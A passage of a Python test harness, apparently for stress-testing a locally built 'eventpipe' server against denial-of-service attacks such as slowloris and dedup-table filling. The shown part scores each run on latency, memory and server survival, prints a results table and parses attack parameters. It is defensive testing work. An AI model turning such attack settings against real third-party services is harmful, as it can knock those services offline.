        "rss_limit_hit": bool(limit_hit), "server_alive": alive, "normal": normal,
        "info": ctx.info, "error": error,
    }
    if ctx.check is not None:
        row["check_ok"], row["check"] = ctx.check
    reasons = []
    if normal is None:
        reasons.append("normal client gave no figures")
    else:
        if normal["worst_ms"] >= args.max_latency_ms:
            reasons.append("latency")
        if normal["errors"]:
            reasons.append("client errors")
    if peak_kb >= args.max_rss_mb * 1024:
        reasons.append("RSS")
    if limit_hit:
        reasons.append("cut at RSS limit")
    if not alive:
        reasons.append("server died (%s)" % server.proc.returncode)
    if error:
        reasons.append("script error")
    if ctx.check is not None and not ctx.check[0]:
        reasons.append("check")
    row["verdict"] = "PASS" if not reasons else "FAIL"
    row["fail_reasons"] = reasons
    return row


def print_table(rows, out):
    hdr = ("attack", "conns up/asked", "dur s", "peak RSS MB", "worst ms", "reqs/errs/503",
           "verdict")
    lines = []
    for r in rows:
        n = r["normal"] or {}
        lines.append((r["attack"], "%d/%d" % (r["peak_open"], r["connections"]),
                      "%.1f" % r["duration_s"],
                      "%.1f" % r["peak_rss_mb"] + (" (cut)" if r["rss_limit_hit"] else ""),
                      ("%.0f" % n.get("worst_ms", -1)) + ("+" if n.get("worst_unanswered") else ""),
                      "%d/%d/%d" % (n.get("requests", 0), n.get("errors", 0), n.get("s503", 0)),
                      r["verdict"] + ("" if r["verdict"] == "PASS"
                                      else " (" + ", ".join(r["fail_reasons"]) + ")")))
    w = [max(len(h), *(len(l[i]) for l in lines)) for i, h in enumerate(hdr)]
    fmt = "| " + " | ".join("%%-%ds" % x for x in w) + " |"
    out.write(fmt % hdr + "\n")
    out.write("|" + "|".join("-" * (x + 2) for x in w) + "|\n")
    for l in lines:
        out.write(fmt % l + "\n")
    out.write("\n")
    for r in rows:
        n = r["normal"] or {}
        extra = ["RSS %.1f MB at start" % r["rss_start_mb"]]
        if n:
            extra.append("normal p50 %.1f ms p99 %.1f ms, worst on %s" %
                         (n["p50_ms"], n["p99_ms"], n["worst_what"]))
            if n["error_samples"]:
                extra.append("errors e.g. " + "; ".join(n["error_samples"][:2]))
        if "check" in r:
            extra.append(r["check"])
        info = {k: v for k, v in r["info"].items()}
        if info:
            extra.append(", ".join("%s=%s" % kv for kv in sorted(info.items())))
        if r["error"]:
            extra.append("script error: " + r["error"])
        out.write("%s: %s\n" % (r["attack"], "; ".join(extra)))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--binary", default="build/eventpipe")
    ap.add_argument("--duration", type=float, default=15.0, help="seconds per attack (15)")
    ap.add_argument("--only", action="append", metavar="NAME",
                    help="run only this attack (repeatable): " + ", ".join(a[0] for a in ATTACKS))
    ap.add_argument("--conns", type=int, default=0,
                    help="at most this many attacker connections per attack (default: the issue's)")
    ap.add_argument("--per-addr", type=int, default=8,
                    help="attacker connections per source address (8)")
    ap.add_argument("--slowloris-interval", type=float, default=3.0)
    ap.add_argument("--dedup-capacity", type=int, default=1000000,
                    help="the server's DEDUP_CAPACITY (its default, 1000000)")
    ap.add_argument("--dedup-budget", type=float, default=45.0,
                    help="longest time for dedup-fill to fill the table (45 s)")
    ap.add_argument("--dedup-probe-timeout", type=float, default=20.0,
                    help="longest wait for each answer to the repeated id (20 s)")
    ap.add_argument("--max-rss-mb", type=float, default=256.0)
    ap.add_argument("--max-latency-ms", type=float, default=1000.0)
    ap.add_argument("--rss-limit-mb", type=float, default=2048.0,
                    help="cut an attack short when the server's RSS passes this (2048)")
    ap.add_argument("--client-timeout", type=float, default=5.0)
    ap.add_argument("--json", action="store_true", help="print the rows as JSON instead")
    ap.add_argument("--list", action="store_true")
    # The normal client's own process.
    ap.add_argument("--normal-client", action="store_true", help=argparse.SUPPRESS)
    ap.add_argument("--ingest-port", type=int, help=argparse.SUPPRESS)
    ap.add_argument("--processor-port", type=int, help=argparse.SUPPRESS)
    ap.add_argument("--fresh", action="store_true", help=argparse.SUPPRESS)
    ap.add_argument("--max-seconds", type=float, default=900, help=argparse.SUPPRESS)
    args = ap.parse_args()

    if args.normal_client:
        normal_client_main(args)
        return 0
    if args.list:
        for name, conns, desc in ATTACKS:
            print("%-22s %5d  %s" % (name, conns, desc))
        return 0
    names = [a[0] for a in ATTACKS]
    for n in args.only or []:
        if n not in names:
            ap.error("unknown attack %r (known: %s)" % (n, ", ".join(names)))
    if not os.access(args.binary, os.X_OK):
        ap.error("%s is not an executable (build it first: make build)" % args.binary)
    nofile = raise_nofile()  # the children inherit it
    todo = [(n, c) for n, c, _ in ATTACKS if not args.only or n in args.only]
    rows = []
    log = sys.stderr
    with open("/proc/loadavg") as f:
        load = " ".join(f.read().split()[:3])
    log.write("attack.py: %d attack(s), %.0f s each, RLIMIT_NOFILE %d, load average %s\n" %
              (len(todo), args.duration, nofile, load))
    for name, default_conns in todo:
        conns = min(default_conns, args.conns) if args.conns > 0 else default_conns
        if conns + 200 > nofile:
            conns = nofile - 200
        log.write("attack.py: %s with %d connection(s)...\n" % (name, conns))
        log.flush()
        server = Server(os.path.abspath(args.binary))
        try:
            row = asyncio.run(run_attack(name, conns, server, args))
        finally:
            server.stop()
            log_tail = server.log_text()[-1500:]
            server.remove()
        if not row["server_alive"]:
            row["server_log_tail"] = log_tail
        rows.append(row)
        log.write("attack.py: %s: peak RSS %.1f MB, normal worst %.0f ms, %s\n" % (
            name, row["peak_rss_mb"], (row["normal"] or {}).get("worst_ms", -1), row["verdict"]))
    if args.json:
        json.dump(rows, sys.stdout, indent=1)
        sys.stdout.write("\n")
    else:
        print_table(rows, sys.stdout)
    return 0 if all(r["verdict"] == "PASS" for r in rows) else 1


if __name__ == "__main__":
    def _term(signum, frame):
        raise KeyboardInterrupt

    signal.signal(signal.SIGTERM, _term)
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.stderr.write("attack.py: interrupted; servers stopped\n")
        sys.exit(130)
